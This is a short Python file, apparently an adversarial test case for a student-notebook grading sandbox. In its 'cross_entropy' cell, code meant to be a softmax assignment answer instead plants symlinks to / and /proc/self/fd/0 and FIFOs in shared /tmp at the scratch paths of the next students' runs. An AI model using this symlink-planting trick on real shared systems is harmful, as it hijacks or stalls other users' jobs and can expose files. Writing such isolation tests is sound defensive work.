"""Replace the next children's scratch paths by symlinks (to /, /proc, a FIFO) in shared /tmp."""

ASSIGNMENT = "softmax"
NEXT_STUDENT = True
CELLS = {
    "cross_entropy": r'''
import os
try:
    _n = int(os.path.basename(os.getcwd()).lstrip("c") or 0)
except ValueError:
    _n = 0
for _k in range(_n + 1, _n + 300):
    try:
        if _k % 3 == 0:
            os.symlink("/", f"/tmp/c{_k}")
        elif _k % 3 == 1:
            os.mkfifo(f"/tmp/c{_k}")
        else:
            os.symlink("/proc/self/fd/0", f"/tmp/c{_k}")
    except OSError:
        pass
__WRONG__
'''
}
